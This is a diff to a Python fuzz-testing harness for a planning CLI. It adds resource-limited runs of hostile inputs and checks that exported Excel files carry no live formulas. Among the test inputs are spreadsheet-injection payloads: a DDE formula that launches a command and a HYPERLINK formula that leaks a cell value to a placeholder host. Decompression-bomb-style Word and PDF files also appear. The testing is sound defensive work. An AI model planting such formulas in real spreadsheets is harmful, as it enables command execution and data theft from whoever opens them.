@@ -3,10 +3,16 @@
 1. every hostile input of tests/hostile/cases.yaml, each in its own process with a time limit (a hang is
    a timeout, not a stuck run);
 2. hand edits of a drafted plan: each field of it set to a wrong type, then rendered, reported, reviewed;
-3. pairs of concurrent `progress --measure` runs on one plan (a lost update is a loss).
+3. pairs of concurrent `progress --measure` runs on one plan (a lost update is a loss);
+4. the second attack's classes (issue 29), each in its own process with a time limit, its peak memory measured:
+   formula-like agency names through every Excel writer (a live formula is a breach), YAML sets and lone
+   surrogates, metadata given twice, hostile Word files (a merge continued in the first row, a 3,000-row merge
+   chain, a billion-column span, a main part renamed .bin), hostile PDFs (a content stream shared by 499 pages,
+   AES encryption, 60 MB), a sheet with a cell at XFD1048576, a rule joining eight questions, a recommendation
+   text repeating a placeholder, -o naming a folder, an agency name of 300 characters.
 
 Prints: inputs tried, clean errors (exit 1 or 2 with one-line located errors), successes, exit 70s,
-tracebacks, hangs, losses. Exit status 1 when any exit 70, traceback, hang or loss was seen.
+tracebacks, hangs, losses, breaches, the largest peak memory of one run. Exit status 1 when any exit 70, traceback, hang or loss was seen.
 """
 
 from __future__ import annotations
@@ -134,6 +140,98 @@ def pairs(totals: Counter, work: Path, count: int) -> list[str]:
     return notes
 
 
+def _peak_run(args: list[str], cwd: Path, timeout: float) -> tuple[int | None, str, float]:
+    """A run in its own process with its peak memory (MB, the child's maximum resident size)."""
+    code = ("import resource, sys\nfrom itaplan.cli import main\ntry:\n    status = main()\nexcept SystemExit as e:\n"
+            "    status = e.code\nprint('\\nPEAK', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
+            "sys.exit(status)")
+    try:
+        done = subprocess.run([sys.executable, "-c", code, *args], check=False, cwd=cwd, capture_output=True, text=True,
+                              timeout=timeout, env=ENV, errors="replace")
+    except subprocess.TimeoutExpired:
+        return None, "", 0.0
+    peak = next((int(line.split()[1]) for line in done.stderr.splitlines() if line.startswith("PEAK ")), 0) / 1024
+    return done.returncode, done.stdout + done.stderr, peak
+
+
+def second(totals: Counter, work: Path) -> list[str]:
+    """The second attack's classes (issue 29): each must end in a success or a located error, in time and in memory
+    (1 GB), and a formula-like agency name must stay text in every sheet."""
+    import io
+    import json
+
+    import test_hostile_documents as h
+    from openpyxl import load_workbook
+
+    example = (ROOT / "examples" / "example.yaml").read_text(encoding="utf-8")
+    cases: list[tuple[str, list[str], dict[str, bytes]]] = []
+    for name in ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?leak="&B5,"open")', "+SUM(1,1)", "@SUM(1)"):
+        cases.append((f"formula agency {name[:12]}", ["draft", "r.csv", "-o", "out.xlsx"],
+                      {"r.csv": f"agency,{json.dumps(name)}\nfiscal_year,2568\ncode,score\ni1,80\n".encode()}))
+    cases += [
+        ("YAML set", ["score", "r.yaml"], {"r.yaml": example.replace("fiscal_year: 2568", "fiscal_year: !!set {2568}")
+                                         .encode()}),
+        ("lone surrogate in JSON", ["score", "r.json"], {"r.json": b'{"agency": {"name": "\\ud800"}, "fiscal_year": 2568,'
+                                                                    b' "questions": {"i1": 80}}'}),
+        ("metadata twice", ["score", "r.csv"], {"r.csv": b"fiscal_year,2568\nfiscal_year,2567\ncode,score\ni1,80\n"}),
+        ("-o a folder", ["draft", str(ROOT / "examples" / "example.yaml"), "-o", "newdir/"], {}),
+        ("agency of 300 characters", ["draft", "r.yaml", "-o", "long.docx"],
+         {"r.yaml": example.replace("องค์การบริหารส่วนตำบลห้วยทราย", "องค์การบริหารส่วนตำบล" + "ก" * 300, 1).encode()}),
+    ]
+    folder = work / "second"
+    folder.mkdir()
+    builders = {
+        "merge continued in the first row": lambda p: h.word_file(p, h.first_cell('<w:vMerge/>')),
+        "3,000-row merge chain": lambda p: h.word_file(p, h.merge_chain(3000)),
+        "a billion-column span": lambda p: h.word_file(p, h.first_cell('<w:gridSpan w:val="1000000000"/>')),
+        "main part renamed .bin": lambda p: h.word_file(p, h._many_paragraphs, "word/document.bin"),
+    }
+    for label, build in builders.items():
+        path = folder / f"{len(cases)}.docx"
+        build(path)
+        cases.append((f"Word: {label}", ["score", str(path)], {}))
+    for label, content, pages in (("content shared by 499 pages", h.TEXT + b"0 0 m\n" * 663_000, 499),
+                                  ("4 MB drawn", h.TEXT + b"0 0 m\n" * 95_000, 499)):
+        path = h.raw_pdf(folder / f"{len(cases)}.pdf", content, pages=pages)
+        cases.append((f"PDF: {label}", ["score", str(path)], {}))
+    big = h.raw_pdf(folder / "big.pdf", h.TEXT)
+    with big.open("ab") as handle:
+        handle.truncate(60 * 1024 * 1024)
+    cases.append(("PDF: 60 MB", ["score", str(big)], {}))
+    cases.append(("sheet: a cell at XFD1048576", ["score", str(h._sheet(folder / "far.xlsx",
+                                                                    [["code", "score"], ["i1", 80]], far=True))], {}))
+    atoms = "\n".join(f"        - question: {{codes: [i1, i2, i3, i4, i5, i6, i7, i8], below: 85}}" for _ in range(8))
+    cases.append(("rule joining eight questions", ["rules", "validate", "rules"],
+                  {"rules/r.yaml": (f"version: 1\nframeworks: [2568]\nrules:\n  - id: eight\n    title: eight\n"
+                                    f"    when:\n      all:\n{atoms}\n    propose: [budget-participation]\n").encode()}))
+    cases.append(("a placeholder repeated", ["draft", str(ROOT / "examples" / "example.yaml"), "--recommendations", "rec",
+                                             "-o", "p.yaml"],
+                  {"rec/settings.yaml": ("texts:\n  row_issue: '" + "{issue}" * 2000 + "'\n").encode()}))
+    notes = []
+    for n, (label, args, files) in enumerate(cases):
+        place = folder / f"case{n}"
+        place.mkdir()
+        for name, data in files.items():
+            (place / name).parent.mkdir(parents=True, exist_ok=True)
+            (place / name).write_bytes(data)
+        status, output, peak = _peak_run(args, place, 60.0)
+        totals["largest peak (MB)"] = max(totals["largest peak (MB)"], round(peak))
+        problem = _tally(totals, status, output)
+        if peak > 1024:
+            problem = problem or f"peak {peak:.0f} MB"
+        out = place / "out.xlsx"
+        if out.exists():
+            workbook = load_workbook(io.BytesIO(out.read_bytes()))
+            live = [f"{ws.title}!{c.coordinate}" for ws in workbook.worksheets for row in ws.iter_rows() for c in row
+                    if c.data_type == "f"]
+            if live:
+                totals["breaches"] += 1
+                problem = f"live formula in {', '.join(live[:3])}"
+        if problem:
+            notes.append(f"{label}: {problem}: {output.strip()[-160:]}")
+    return notes
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--pairs", type=int, default=20)
@@ -142,13 +240,14 @@ def main() -> int:
     totals: Counter = Counter()
     with tempfile.TemporaryDirectory() as tmp:
         work = Path(tmp)
-        notes = table(totals, work) + mutations(totals, work, options.mutations) + pairs(totals, work, options.pairs)
+        notes = table(totals, work) + mutations(totals, work, options.mutations) + pairs(totals, work, options.pairs) \
+            + second(totals, work)
     for note in notes:
         print(note)
     keys = ["inputs tried", "clean errors", "successes", "unexpected status", "exit 70s", "tracebacks", "hangs",
-            "losses"]
+            "losses", "breaches", "largest peak (MB)"]
     print("; ".join(f"{key}: {totals[key]}" for key in keys))
-    return 1 if any(totals[k] for k in ("exit 70s", "tracebacks", "hangs", "losses")) else 0
+    return 1 if any(totals[k] for k in ("exit 70s", "tracebacks", "hangs", "losses", "breaches")) else 0
 
 
 if __name__ == "__main__":
